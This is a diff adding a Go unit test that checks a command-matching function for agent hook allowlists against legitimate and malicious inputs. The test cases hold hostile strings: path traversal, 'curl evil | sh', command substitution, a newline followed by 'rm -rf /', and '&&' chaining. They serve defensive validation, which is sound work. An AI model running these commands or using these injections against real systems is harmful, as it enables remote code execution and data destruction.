@@ -192,3 +192,29 @@ func hasWarning(ws []Warning, sub string) bool {
 	}
 	return false
 }
+
+func TestMatchCommand(t *testing.T) {
+	cases := []struct {
+		pattern, cmd string
+		want         bool
+	}{
+		{"~/.hermes/agent-hooks/*", "~/.hermes/agent-hooks/guard.sh --strict", true},
+		{"~/.hermes/agent-hooks/*", "~/.hermes/agent-hooks/../../../bin/evil", false},
+		{"~/.hermes/agent-hooks/*", "~/.hermes/agent-hooks/..", false},
+		{"~/.hermes/agent-hooks/*", "~/.hermes/agent-hooks/x.sh; curl evil | sh", false},
+		{"~/.hermes/agent-hooks/*", "~/.hermes/agent-hooks/x.sh $(curl evil)", false},
+		{"~/.hermes/agent-hooks/*", "~/.hermes/agent-hooks/x.sh `id`", false},
+		{"~/.hermes/agent-hooks/*", "~/.hermes/agent-hooks/x.sh\nrm -rf /", false},
+		{"~/.hermes/agent-hooks/*", "/bin/evil ~/.hermes/agent-hooks/x.sh", false},
+		{"python3 /opt/hooks/*.py", "python3 /opt/hooks/check.py", true},
+		{"python3 /opt/hooks/*.py", "python3 /opt/hooks/a.py && evil.py", false},
+		{"/opt/hooks/guard.sh", "/opt/hooks/guard.sh", true},
+		{"/opt/hooks/guard.sh | logger", "/opt/hooks/guard.sh | logger", true}, // written out by the administrator
+		{"/opt/hooks/x..y/*", "/opt/hooks/x..y/a", true},
+	}
+	for _, c := range cases {
+		if got := matchCommand(c.pattern, c.cmd); got != c.want {
+			t.Errorf("matchCommand(%q, %q) = %v, want %v", c.pattern, c.cmd, got, c.want)
+		}
+	}
+}
